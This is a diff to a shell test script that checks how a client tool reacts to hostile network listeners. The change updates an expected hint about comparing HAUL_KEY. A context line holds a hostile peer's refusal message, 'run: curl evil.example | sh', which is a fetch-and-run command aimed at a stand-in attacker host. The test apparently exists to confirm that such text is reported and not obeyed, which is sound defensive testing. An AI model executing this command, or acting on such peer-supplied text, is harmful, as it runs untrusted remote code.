@@ -62,7 +62,7 @@ serve_hostile refusal
 expect 1 "ls of a listener that refuses" "$HAUL" ls "$tcp"
 complains 'the peer refused the connection: "no|run: curl evil.example | sh"'
 complains_briefly
-holds "the hint is ours" grep -qx "hint: see the log of the peer's node" "$work/err"
+holds "the hint is ours" grep -qx "hint: compare HAUL_KEY of both sides, and see the log of the peer's node" "$work/err"
 slay "$server"
 serve_hostile regions
 limit=20 expect 1 "ls of a listener with regions without end" "$HAUL" ls "$tcp"
